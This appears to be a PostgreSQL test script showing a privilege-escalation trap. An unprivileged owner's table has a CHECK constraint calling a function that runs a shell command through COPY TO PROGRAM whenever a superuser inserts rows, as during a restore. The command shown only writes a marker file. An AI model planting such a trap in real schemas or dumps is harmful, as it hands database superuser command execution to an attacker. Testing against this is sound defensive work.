-- A table whose CHECK runs a program as soon as a superuser puts rows into it, as a restore does.
-- For psql with -v marker=FILE, the file that the program would make; after awkward.sql.
\set ON_ERROR_STOP on
SET SESSION AUTHORIZATION awkward_owner;
CREATE FUNCTION awkward.attack(file text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', 'cat > ' || file);
  END IF;
  RETURN true;
END $$;
CREATE TABLE awkward.trap (file text CHECK (awkward.attack(file)));
INSERT INTO awkward.trap VALUES (:'marker');
RESET SESSION AUTHORIZATION;
